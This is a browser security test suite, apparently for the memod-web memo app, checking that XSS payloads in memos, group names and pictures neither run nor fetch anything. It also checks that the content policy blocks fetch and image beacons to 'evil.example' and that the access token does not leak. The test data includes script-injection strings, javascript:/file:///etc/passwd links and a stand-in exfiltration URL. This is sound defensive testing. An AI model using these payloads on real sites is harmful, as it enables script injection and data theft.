"""Attacks on the page itself, in a real browser: nothing in a memo runs, and no token gets out."""

from __future__ import annotations

from browser import PageTest, expect

ATTACK = """# <img src=x onerror="window.hacked = 1">

<script>window.hacked = 2</script>

[click](javascript:window.hacked=3) [data](data:text/html,<script>window.hacked=4</script>)
![pixel](https://evil.example/pixel.png) <svg onload="window.hacked=5">

- [ ] <iframe src="javascript:window.hacked=6"></iframe>

[[<b onclick=window.hacked=7>x]] #<u> | <i> |
"""
SVG = (
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+d"
    "2luZG93LmhhY2tlZD04PC9zY3JpcHQ+PC9zdmc+"
)

NEVER_IDLE = """globalThis.requestIdleCallback = (work, { timeout } = {}) => {
  if (timeout) setTimeout(work, timeout);
};"""


FETCHING = "script, img, svg, iframe"


class Safety(PageTest):
    owns_context = True

    def prepare(self) -> None:
        self.asked: list[str] = []
        self.context.on("request", lambda request: self.asked.append(request.url))
        self.call("group/create", id="g_evil", name="<script>window.hacked=9</script>", image=SVG)
        self.call("memo/create", id="m_evil", content=ATTACK, group="g_evil")
        self.call("task/create", content="<img src=x onerror=window.hacked=10>", group="g_evil")

    def test_nothing_in_a_memo_a_name_or_a_picture_runs_or_is_fetched(self) -> None:
        for path in ("lists", "list/g_evil", "board", "memos", "search/script", "history"):
            self.go(path)
            expect(self.page.locator("body")).to_contain_text("<")
        self.go("memos/memo/m_evil")
        view = self.page.locator(".text-view")
        expect(view).to_contain_text("<script>window.hacked = 2</script>")
        expect(view).to_contain_text("javascript:window.hacked=3")
        for attempt in self.eventually():
            with attempt:
                self.assertEqual(view.locator(f":is({FETCHING}):not(.facts-bar *)").count(), 0)
                links = view.locator("a").evaluate_all("all => all.map(each => each.href)")
                # A link to a memo leads to where the page looks for it.
                own = [each for each in links if each.startswith(self.web.origin + "/#/search/")]
                self.assertEqual([*links[:1], *own], links)
                self.assertEqual(links[0], "https://evil.example/pixel.png")
        self.assertIsNone(self.page.evaluate("window.hacked ?? null"))
        self.go("lists")
        expect(self.page.locator(".card-picture")).to_be_hidden()
        self.assertEqual([url for url in self.asked if not url.startswith(self.web.origin)], [])

    def test_links_lead_to_the_web_alone_and_tell_nobody_where_from(self) -> None:
        schemes = ("JaVaScRiPt:x", "java\tscript:x", "vbscript:x", "file:///etc/passwd", "blob:x")
        links = [
            f"[a](<{each}1>) <{each}2> [b]( {each}3 )" for each in (*schemes, "data:text/html,x")
        ]
        more = "[c](//evil.example/c) <https://evil.example/d> [e](https://evil.example/e)"
        self.call("memo/create", id="m_links", content="\n\n".join(["# Links", *links, more]))
        self.go("memos/memo/m_links")
        view = self.page.locator(".text-view")
        expect(view).to_contain_text("vbscript:x1")
        anchors = "all => all.map(({ protocol, hash, rel }) => [protocol, hash.slice(0, 2), rel])"
        for protocol, place, rel in view.locator("a").evaluate_all(anchors):
            if place != "#/":
                self.assertIn(protocol, ("http:", "https:"))
                self.assertIn("noreferrer", rel)

    def test_no_address_changes_anything(self) -> None:
        before = self.call("history/list")["commits"]
        for path in (
            "list/g_evil/memo/new",
            "memos/memo/new",
            "memos/memo/new-task",
            "search/%3Cscript%3E",
            "list/g_evil/memo/m_evil",
            "trash",
            "settings/disconnect",
            "list/__proto__",
            "constructor",
        ):
            self.go(path)
        self.go("lists")
        expect(self.page.locator(".card-name")).to_have_count(1)
        self.assertEqual(self.call("history/list")["commits"], before)

    def test_the_token_leaves_the_address_the_history_and_the_requests(self) -> None:
        self.go("memos")
        self.page.go_back()
        self.assertNotIn(self.web.token, self.page.url)
        self.page.reload()
        self.page.wait_for_selector("body[data-status=online]", state="attached")
        self.assertNotIn(self.web.token, self.page.url + "".join(self.asked))
        self.assertEqual(self.page.evaluate("document.referrer"), "")


class Policy(PageTest):
    allowed = ("Content Security Policy", "TrustedHTML", "Trusted", "Refused", "violates")

    def refused(self, script: str) -> bool:
        """Whether the page's own policy throws, or stops, what a script that got in would do."""
        return self.page.evaluate(
            f"() => {{ const made = document.createElement('div');"
            f" try {{ {script}; return false; }}"
            " catch (error) { return error instanceof TypeError || error instanceof EvalError; } }"
        )

    def test_trusted_types_and_the_policy_are_in_force(self) -> None:
        for script in (
            "made.innerHTML = '<b>x</b>'",
            "made.insertAdjacentHTML('beforeend', '<b>x</b>')",
            "document.write('x')",
            "trustedTypes.createPolicy('other', {})",
            "document.createElement('script').src = 'https://evil.example/x.js'",
        ):
            with self.subTest(script):
                self.assertTrue(self.refused(script))

    def test_no_text_is_run_as_a_script(self) -> None:
        # Later, since what a debugger evaluates may do more than a page.
        stopped = self.page.evaluate(
            "() => new Promise((end) => setTimeout(() => {"
            " try { end(new Function('return false')()); } catch { end(true); } }))"
        )
        self.assertTrue(stopped)

    def test_nothing_can_be_sent_elsewhere(self) -> None:
        stopped = self.page.evaluate(
            "() => fetch('https://evil.example/').then(() => false, () => true)"
        )
        self.assertTrue(stopped)
        self.page.evaluate(
            "() => { const image = new Image(); image.src = 'https://evil.example/?stolen';"
            " return new Promise((end) => { image.onerror = end; image.onload = end; }); }"
        )
        self.page.evaluate("document.body.append(document.createElement('iframe'))")


class Strangers(PageTest):
    allowed = ("401", "403", "WebSocket", "Failed to load resource")

    def test_a_wrong_token_is_said_in_words_and_the_right_link_lets_in(self) -> None:
        context = self.new_context()
        page = context.new_page()
        page.goto(self.web.url + "#token=wrong")
        expect(page.locator(".trouble")).to_contain_text("Open the link that memod-web printed")
        page.goto(self.web.link)
        page.wait_for_selector("body[data-status=online]", state="attached")

    def test_another_site_gets_no_socket_even_with_the_token(self) -> None:
        from support import Web

        other = Web()
        self.addCleanup(other.ended)
        page = self.new_context().new_page()
        page.goto(other.url)
        status = page.evaluate(
            "([url, token]) => new Promise((end) => {"
            " const socket = new WebSocket(url, ['memod', `token.${token}`]);"
            " socket.onopen = () => end('open'); socket.onerror = () => end('refused'); })",
            [f"ws://{self.web.host}/socket", self.web.token],
        )
        self.assertEqual(status, "refused")


class Openers(PageTest):
    """Another site that opens the page in a window has no hold on it."""

    owns_context = True
    allowed = ("401", "WebSocket", "Failed to load resource")

    def test_who_opens_it_has_no_window_of_it(self) -> None:
        from support import Web

        other = Web()
        self.addCleanup(other.ended)
        page = self.context.new_page()
        page.goto(other.url)
        with self.context.expect_page() as opened:
            page.evaluate("url => { globalThis.opened = open(url); }", self.web.url)
        opened.value.wait_for_selector("body[data-status=online]", state="attached")
        self.assertTrue(page.evaluate("() => opened.closed"))
        self.assertIsNone(opened.value.evaluate("() => opener"))


class Forgetting(PageTest):
    allowed = ("401", "WebSocket", "Failed to load resource")

    def test_a_device_can_forget_the_link(self) -> None:
        self.go("settings")
        self.disconnect(self.page)
        expect(self.page.locator(".trouble")).to_contain_text("isn’t connected")

    def test_it_is_forgotten_on_a_machine_that_is_never_idle(self) -> None:
        page = self.new_context().new_page()
        page.add_init_script(NEVER_IDLE)
        page.goto(self.web.link)
        page.wait_for_selector("body[data-status=online]", state="attached")
        self.go("settings", page)
        self.disconnect(page)
        expect(page.locator(".trouble")).to_contain_text("isn’t connected")
